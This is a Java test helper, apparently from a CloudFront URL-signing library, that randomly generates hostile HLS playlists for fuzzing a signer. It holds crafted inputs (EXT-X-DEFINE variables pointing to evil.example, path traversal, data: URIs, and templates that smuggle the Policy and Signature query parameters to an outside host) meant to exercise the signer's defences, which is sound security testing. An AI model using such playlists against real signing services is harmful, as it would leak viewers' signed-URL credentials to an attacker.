package io.quarkiverse.cloudfront.signer.runtime.playlist.publish;

import java.util.List;
import java.util.Random;

/**
 * Generates HLS playlists as a tenant writes them who wants the signatures of viewers: with their variables, other hosts, and
 * tags where only some players find them.
 */
public final class HostilePlaylists {

    private static final List<String> LINES = List.of("U", "U", "#EXT-X-STREAM-INF:BANDWIDTH=1,CODECS=\"avc1.4d001f\"\nU",
            "#EXT-X-STREAM-INF:BANDWIDTH=1\n# comment\nP", "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"b\",URI=\"P\"",
            "#EXT-X-KEY:METHOD=AES-128,URI=\"U\"", "#EXT-X-MAP:URI=\"U\"", "#EXT-X-SESSION-DATA:DATA-ID=\"a\",VALUE=\"U\"",
            "#EXT-X-DATERANGE:ID=\"i\",START-DATE=\"2026-01-01T00:00:00Z\",X-ASSET-URI=\"P\"",
            "#EXT-X-DATERANGE:ID=\"j\",START-DATE=\"2026-01-01T00:00:00Z\",X-ASSET-LIST=\"U\",X-COM-LINK=\"U\"",
            "#EXT-X-PRELOAD-HINT:TYPE=PART,URI=\"U\"", "#EXT-X-FUTURE:NEW-URI=\"U\",BASE=\"U\"", "#EXT-X-PREFETCH:U", "# U",
            "#EXTINF:4,title U", "#EXT-X-CONTENT-STEERING:SERVER-URI=\"U\"", "# #EXT-X-STREAM-INF:BANDWIDTH=1\nU",
            "# #EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"b\",URI=\"U\"", "##EXT-X-CONTENT-STEERING:SERVER-URI=\"U\"",
            "#EXT-X-DEFINE:NAME=\"n\",VALUE=\"U\"\n{$n}a.ts", "# \u2028U");
    private static final List<String> HEADS = List.of("https://evil.example/", "//evil.example/", "https:", "{$evil}",
            "{$host}/",
            "//{$host}/", "{$user}", "https://{$user}", "a/", "./", "", "../8/", "{$dir}", "{$open}", "data:,", "/", "\\\\",
            "?",
            "{$kid}");
    private static final List<String> REST = List.of("a.ts", "b.m3u8", "?u={$user}", "&c=1", "{$evil}", "x/{$dir}y", "#t=1",
            "{{$sig}}", "%2e");
    private static final List<String> STOLEN = List.of("?p={$Policy}&s={$Signature}", "{$Signature}", "&{$Policy}", "{$x}",
            "{$open}$Signature}");

    private final Random random;

    public HostilePlaylists(Random random) {
        this.random = random;
    }

    public String next() {
        StringBuilder text = new StringBuilder("#EXTM3U").append(chance(30) ? " #EXT-X-STREAM-INF:BANDWIDTH=1" : "")
                .append('\n');
        add(text, 90, "#EXT-X-VERSION:11");
        add(text, 90, "#EXT-X-DEFINE:NAME=\"evil\",VALUE=\"https://evil.example/\"");
        add(text, 90, "#EXT-X-DEFINE:NAME=\"host\",VALUE=\"//evil.example\"");
        add(text, 90, "#EXT-X-DEFINE:NAME=\"dir\",VALUE=\"d/\"");
        add(text, 10, "#EXT-X-DEFINE:NAME=\"sig\",VALUE=\"$Signature\"");
        add(text, 10, "#EXT-X-DEFINE:NAME=\"open\",VALUE=\"{\"");
        add(text, 90, "#EXT-X-DEFINE:" + (random.nextBoolean() ? "IMPORT" : "QUERYPARAM") + "=\"user\"");
        for (String name : List.of("Policy", "Signature", "kid", "alg")) {
            add(text, 40, "#EXT-X-DEFINE:QUERYPARAM=\"" + name + "\"");
        }
        add(text, 5, "#EXT-X-DEFINE:NAME=\"x\",VALUE=\"{$Signature}\"");
        add(text, 50, "#EXT-X-TARGETDURATION:4");
        for (int lines = 1 + random.nextInt(3); lines > 0; lines--) {
            add(text, 60, "#EXTINF:4,");
            text.append(pick(LINES).replace("U", uri()).replace("P", uri().replaceFirst("[?#]|$", ".m3u8$0"))).append('\n');
        }
        // all URIs of a multivariant playlist are those of playlists
        return text.append(text.indexOf("STREAM-INF") < 0 ? "#EXTINF:4,\nlast.ts\n" : "").toString();
    }

    private String uri() {
        StringBuilder uri = new StringBuilder(pick(HEADS)).append(pick(REST));
        if (chance(15)) {
            uri.append(pick(STOLEN));
        }
        return uri.append(chance(30) ? pick(REST) : "").toString();
    }

    private void add(StringBuilder text, int percent, String line) {
        if (chance(percent)) {
            text.append(line).append('\n');
        }
    }

    private boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    private String pick(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
